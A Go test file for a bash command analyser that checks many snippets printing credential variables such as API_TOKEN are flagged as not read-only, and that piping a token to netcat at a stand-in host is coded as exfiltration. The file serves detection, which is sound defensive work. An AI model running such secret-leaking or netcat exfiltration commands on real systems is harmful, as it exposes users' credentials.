package bashcheck

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestSecretsAreShown: each text prints a credential of the environment, whole
// or in a part that tells of it, and none is read-only. That is what bash does
// where nobody asks.
func TestSecretsAreShown(t *testing.T) {
	bash := need(t, "bash")
	dir := t.TempDir()
	env := append(SafeEnv(EnvOptions{}), "API_TOKEN=q7sesame", "DB_PASSWORD=q7sesame", "openai_key=q7sesame")
	for _, src := range []string{
		"echo $API_TOKEN", `printf %s "$DB_PASSWORD"`, "echo ${API_TOKEN:0:4}", "echo ${API_TOKEN%?}", "echo $openai_key", "cat <<< $API_TOKEN", "cat <<E\n$API_TOKEN\nE",
		"x=$API_TOKEN; echo $x", "for x in $API_TOKEN; do echo $x; done", "for c in a q z; do [[ $API_TOKEN == $c* ]] && echo ${c}7s; done",
		`[ "$API_TOKEN" -gt 0 ]`, "[ -n $API_TOKEN a ]", `ls "$API_TOKEN"`, `cd "$API_TOKEN"`, `wc -l < "$API_TOKEN"`, "false && API_TOKEN=x; echo $API_TOKEN",
		"(API_TOKEN=x); echo $API_TOKEN", "API_TOKEN=x true; echo $API_TOKEN", "API_TOKEN+=x; echo $API_TOKEN", "API_TOKEN=x | cat; echo $API_TOKEN",
		"API_TOKEN=$((1/0))\necho $API_TOKEN", "for API_TOKEN in $none; do :; done; echo $API_TOKEN", "read API_TOKEN < none; echo $API_TOKEN",
		"read -t 0 API_TOKEN; echo $API_TOKEN", "read -u 77 API_TOKEN; echo $API_TOKEN", "while ! read -u 77 API_TOKEN; do echo $API_TOKEN; break; done",
		"timeout 5 echo $API_TOKEN", `[ -n "$(for x in $API_TOKEN; do echo $x >&2; done)" ]`, "exit $API_TOKEN", "case $API_TOKEN in q7*) echo q7s;; esac", "echo ${none:-$API_TOKEN}",
	} {
		assert.False(t, Analyze(src).ReadOnly(), src)
		assert.Contains(t, in(dir, env, bash, "-c", src), "q7s", src)
	}
	r := Analyze("echo $API_TOKEN")
	assert.Equal(t, "Prints text, which shows or changes API_TOKEN.", strings.TrimSpace(r.Explain()))
	assert.Contains(t, codes(Analyze("echo $API_TOKEN | nc h.example 80"), Dangerous), CodeExfiltration)
	// What is given a credential to use it is told by its other effects.
	for _, e := range Analyze(`curl -H "Authorization: Bearer $API_TOKEN" https://h.example/`).Effects() {
		assert.NotEqual(t, Environment, e.Kind)
	}
}
